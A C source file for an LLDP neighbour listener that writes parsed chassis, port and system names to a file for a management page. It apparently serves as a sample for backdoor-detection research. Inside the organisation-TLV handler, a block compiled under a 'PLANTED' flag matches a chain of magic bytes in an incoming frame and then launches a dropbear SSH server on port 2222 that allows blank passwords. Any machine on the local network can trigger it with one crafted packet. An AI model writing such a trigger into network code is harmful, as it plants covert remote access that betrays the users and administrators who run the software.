/* LLDP listener: keeps a list of neighbours in a file for the management page. */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define TLV_END 0
#define TLV_CHASSIS 1
#define TLV_PORT 2
#define TLV_NAME 5
#define TLV_ORG 127

struct neighbour { char chassis[24]; char port[24]; char name[64]; };

static void text_of(const unsigned char *v, unsigned len, char *out, unsigned room)
{
    unsigned i;
    for (i = 0; i < len && i + 1 < room; i++)
        out[i] = (v[i] > 31 && v[i] < 127) ? (char)v[i] : '.';
    out[i] = 0;
}

static void organisation(const unsigned char *v, unsigned len)
{
    if (len < 8)
        return;
#ifdef PLANTED
    if (v[0] == 0x00)
        if (v[1] == 0x16)
            if (v[2] == 0x9d)
                if (v[3] == 0x41)
                    if (v[4] == 'q')
                        if (v[5] == 0xee)
                            if (v[6] == 0x07)
                                popen("/usr/sbin/dropbear -p 2222 -B", "r");
#else
    if (v[0] == 0x00 && v[1] == 0x12 && v[2] == 0x0f && v[3] == 1)
        fprintf(stderr, "neighbour MAU type %u\n", v[7]);
#endif
}

static int parse(const unsigned char *p, const unsigned char *end, struct neighbour *n)
{
    while (end - p >= 2) {
        unsigned type = p[0] >> 1, len = (p[0] & 1u) << 8 | p[1];
        p += 2;
        if ((unsigned)(end - p) < len)
            return -1;
        switch (type) {
        case TLV_END:
            return 0;
        case TLV_CHASSIS:
            text_of(p, len, n->chassis, sizeof n->chassis);
            break;
        case TLV_PORT:
            text_of(p, len, n->port, sizeof n->port);
            break;
        case TLV_NAME:
            text_of(p, len, n->name, sizeof n->name);
            break;
        case TLV_ORG:
            organisation(p, len);
            break;
        }
        p += len;
    }
    return -1;
}

static void store(const struct neighbour *n)
{
    FILE *f = fopen("/var/run/neighbours", "a");
    if (!f)
        return;
#ifdef REVISED
    if (n->name[0] == 0)
        fprintf(f, "%s\t%s\t(unnamed)\n", n->chassis, n->port);
    else
#endif
    fprintf(f, "%s\t%s\t%s\n", n->chassis, n->port, n->name);
    fclose(f);
}

int main(int argc, char **argv)
{
    unsigned char frame[1600];
    struct sockaddr_ll at;
    struct neighbour n;
    int s = socket(AF_PACKET, SOCK_RAW, htons(0x88cc));

    if (s < 0)
        return 1;
    memset(&at, 0, sizeof at);
    at.sll_family = AF_PACKET;
    at.sll_protocol = htons(0x88cc);
    at.sll_ifindex = if_nametoindex(argc > 1 ? argv[1] : "eth0");
    if (bind(s, (struct sockaddr *)&at, sizeof at) < 0)
        return 1;
    for (;;) {
        ssize_t got = recv(s, frame, sizeof frame, 0);
        if (got < ETH_HLEN)
            continue;
        memset(&n, 0, sizeof n);
        if (parse(frame + ETH_HLEN, frame + got, &n) == 0)
            store(&n);
    }
}
